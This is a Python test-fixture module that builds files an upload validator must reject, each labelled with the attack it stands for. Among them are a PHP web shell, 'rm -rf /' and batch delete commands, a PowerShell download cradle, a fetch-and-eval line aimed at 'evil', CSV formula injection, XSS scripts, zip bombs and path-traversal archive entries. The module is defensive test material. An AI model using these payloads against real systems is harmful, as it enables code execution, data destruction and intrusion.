"""Files that must not get in, each with the reason why somebody would try it."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

from PIL import Image

from tests.factories.files import CONTENT_TYPES, heic, office, pdf, picture

HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
PHP = b"<?php system($_GET['c']); ?>"


def zipped(*entries: tuple[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return buffer.getvalue()


def png_of(width: int, height: int) -> bytes:
    """A PNG of a few bytes that says it is `width` by `height`."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack("!I", len(body)) + kind + body + struct.pack("!I", zlib.crc32(kind + body))

    head = struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + chunk(b"IEND", b"")
    )


def lying_zip() -> bytes:
    """A Word file whose directory says that a part unpacks to less than it does."""
    content = office(extra={"word/media/x.xml": b"0" * 200_000})
    at = content.rindex(b"word/media/x.xml") - 46 + 24
    return content[:at] + struct.pack("<I", 10) + content[at + 4 :]


def damaged_zip() -> bytes:
    """A Word file with one byte of a part's text turned over."""
    content = bytearray(office())
    at = content.index(b"_rels/.rels") + len(b"_rels/.rels") + 3
    content[at] ^= 0xFF
    return bytes(content)


def encrypted_zip() -> bytes:
    content = bytearray(office())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at >= 0:
            content[at + offset] |= 1
            at = content.find(mark, at + 4)
    return bytes(content)


def animated_bomb() -> bytes:
    """A GIF: a type that is not accepted at all."""
    buffer = io.BytesIO()
    Image.new("P", (10, 10)).save(buffer, "GIF")
    return buffer.getvalue()


def programs() -> Iterator[tuple[str, str, bytes]]:
    yield "windows program", "phieu.pdf", b"MZ\x90\0" + b"\0" * 200
    yield "linux program", "anh.jpg", b"\x7fELF\x02\x01\x01" + b"\0" * 200
    yield "mac program", "a.pdf", b"\xcf\xfa\xed\xfe" + b"\0" * 100
    yield "java class", "a.png", b"\xca\xfe\xba\xbe\0\0\x004" + b"\0" * 100
    yield "shell script", "giay.pdf", b"#!/bin/sh\nrm -rf /\n"
    yield "python script", "giay.docx", b"#!/usr/bin/env python3\nimport os\n"
    yield "batch file", "giay.jpg", b"@echo off\r\ndel C:\\*.*\r\n"
    yield "power shell", "giay.jpg", b"Invoke-Expression (New-Object Net.WebClient)\n"
    yield "php", "anh.png", PHP
    yield "javascript", "a.pdf", b"fetch('//evil').then(r=>eval(r))"
    yield "windows link", "a.pdf", b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + b"\0" * 80


def markup() -> Iterator[tuple[str, str, bytes]]:
    yield "html as pdf", "phieu.pdf", HTML
    yield "html as jpeg", "anh.jpg", HTML
    yield "html with byte order mark", "a.png", b"\xef\xbb\xbf" + HTML
    yield "html after spaces", "a.pdf", b" \r\n\t" * 20 + HTML
    yield "svg", "logo.svg", SVG
    yield "svg as png", "logo.png", SVG
    yield "svg with xml head", "logo.png", b'<?xml version="1.0"?>' + SVG
    yield (
        "xml with entity bomb",
        "a.docx",
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>',
    )
    yield "mhtml", "a.pdf", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + HTML
    yield "rtf", "a.docx", b"{\\rtf1\\ansi hello}"
    yield "plain text", "a.pdf", "Giấy chứng nhận".encode()
    yield "csv", "a.xlsx", b"a,b\n=cmd|' /C calc'!A0,1\n"


def archives() -> Iterator[tuple[str, str, bytes]]:
    yield "zip", "ho-so.zip", zipped(("a.txt", b"x"))
    yield "zip as docx", "ho-so.docx", zipped(("a.exe", b"MZ"))
    yield "empty zip", "a.docx", b"PK\x05\x06" + b"\0" * 18
    yield (
        "jar",
        "a.docx",
        zipped(("META-INF/MANIFEST.MF", b"Main-Class: X"), ("X.class", b"\xca\xfe\xba\xbe")),
    )
    yield "rar", "a.pdf", b"Rar!\x1a\x07\x01\0" + b"\0" * 50
    yield "7z", "a.pdf", b"7z\xbc\xaf\x27\x1c" + b"\0" * 50
    yield "gzip", "a.pdf", b"\x1f\x8b\x08" + b"\0" * 50
    yield "bzip2", "a.pdf", b"BZh91AY&SY" + b"\0" * 50
    yield "xz", "a.pdf", b"\xfd7zXZ\0" + b"\0" * 50
    yield "tar", "a.pdf", b"a.txt".ljust(257, b"\0") + b"ustar\0" + b"\0" * 300
    yield "powerpoint", "a.pptx", office("ppt/presentation.xml")
    yield "epub", "a.docx", zipped(("mimetype", b"application/epub+zip"))
    yield "apk", "a.xlsx", zipped(("AndroidManifest.xml", b"\x03\0"), ("classes.dex", b"dex\n"))


def offices() -> Iterator[tuple[str, str, bytes]]:
    yield "old word", "a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    yield "bomb by one part", "a.docx", office(extra={"word/x.xml": b"0" * (20 * 2**20)})
    yield (
        "bomb by its sum",
        "a.xlsx",
        office(
            "xl/workbook.xml",
            {f"xl/{n}.xml": bytes([n]) + b"\x41\x42\x43\x0a" * 2_000_000 for n in range(20)},
        ),
    )
    yield "too many parts", "a.docx", office(extra={f"word/{n}": b"" for n in range(3001)})
    yield "macro", "a.docx", office(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    yield (
        "macro content type",
        "a.docx",
        zipped(
            (
                "[Content_Types].xml",
                CONTENT_TYPES.replace("application/xml", "x.macroEnabled.main+xml").encode(),
            ),
            ("word/document.xml", b"<x/>"),
        ),
    )
    yield "program inside", "a.docx", office(extra={"word/embeddings/setup.EXE": b"MZ"})
    yield "script inside", "a.xlsx", office("xl/workbook.xml", {"xl/media/run.js": b"eval(1)"})
    yield "way out", "a.docx", office(extra={"../../etc/cron.d/x": b"* * * * *"})
    yield "absolute name", "a.docx", office(extra={"/etc/passwd": b"x"})
    yield "backslashes", "a.docx", office(extra={"..\\..\\x": b"x"})
    yield "word and excel at once", "a.docx", office(extra={"xl/workbook.xml": b"<x/>"})
    yield "cut off", "a.docx", office()[:-30]
    yield "bytes behind the end", "a.docx", office() + HTML
    yield "password", "a.docx", encrypted_zip()
    yield "lies about its size", "a.docx", lying_zip()
    yield "damaged part", "a.docx", damaged_zip()


def pdfs() -> Iterator[tuple[str, str, bytes]]:
    yield (
        "javascript in pdf",
        "a.pdf",
        pdf(body=b"5 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"),
    )
    yield "escaped javascript", "a.pdf", pdf(body=b"5 0 obj\n<< /S /#4aavaScript /J#53 (x) >>\nendobj\n")
    yield "starts a program", "a.pdf", pdf(body=b"5 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n")
    yield (
        "file in pdf",
        "a.pdf",
        pdf(body=b"5 0 obj\n<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream\n"),
    )
    yield "flash in pdf", "a.pdf", pdf(body=b"5 0 obj\n<< /Subtype /RichMedia >>\nendobj\n")
    yield "cut off pdf", "a.pdf", pdf()[:-60]
    yield "head alone", "a.pdf", b"%PDF-1.7\n"
    yield "head and html", "a.pdf", b"%PDF-1.4\n" + HTML + b"\nstartxref\n0\n%%EOF"
    yield "wrong version", "a.pdf", b"%PDF-x.y" + pdf()[8:]
    yield "pdf and zip", "a.pdf", pdf() + zipped(("x.class", b"\xca\xfe\xba\xbe"))
    yield "pdf then html", "a.pdf", pdf() + HTML
    yield "html then pdf", "a.pdf", HTML + pdf()


def images() -> Iterator[tuple[str, str, bytes]]:
    for form, name in (("JPEG", "a.jpg"), ("PNG", "a.png"), ("WEBP", "a.webp")):
        whole = picture(form, (300, 200))
        yield f"cut off {form}", name, whole[: len(whole) * 2 // 3]
        yield f"{form} head alone", name, whole[:20]
        yield f"{form} and zip", name, picture(form) + zipped(("x", b"y"))
        yield f"{form} and script", name, picture(form) + HTML
    yield "cut off heic", "a.heic", heic((200, 200))[:-400]
    yield "heic head alone", "a.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic"
    yield "jpeg with php in its comment", "a.jpg", picture("JPEG", comment=PHP)
    yield "jpeg with pdf at its head", "a.jpg", picture("JPEG", comment=b"%PDF-1.4 trailer")
    yield "png of four thousand million points", "a.png", png_of(65_000, 65_000)
    yield "png just over the limit", "a.png", png_of(8_001, 8_000)
    yield "png of nothing", "a.png", png_of(0, 0)
    yield "png with too little data", "a.png", png_of(500, 500)
    yield "jpeg head, png body", "a.jpg", b"\xff\xd8\xff" + picture("PNG")[3:]
    yield "gif", "a.gif", animated_bomb()
    yield "bitmap", "a.bmp", picture("BMP")
    yield "tiff", "a.tif", picture("TIFF")
    yield "icon", "a.ico", picture("ICO")
    yield "postscript as jpeg", "a.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (w) file\n"
    yield "film", "a.mp4", b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + b"\0" * 100
    yield "avif", "a.avif", b"\0\0\0\x1cftypavif\0\0\0\0avifmif1" + b"\0" * 100
    yield "sound", "a.mp3", b"ID3\x04\0\0\0\0\0\0" + b"\0" * 100


def noise() -> Iterator[tuple[str, str, bytes]]:
    yield "nothing", "a.pdf", b""
    yield "one byte", "a.jpg", b"\xff"
    yield "zeros", "a.jpg", b"\0" * 5000
    yield "noise", "a.pdf", bytes((n * 167 + 13) % 256 for n in range(5000))


ALL = [*programs(), *markup(), *archives(), *offices(), *pdfs(), *images(), *noise()]
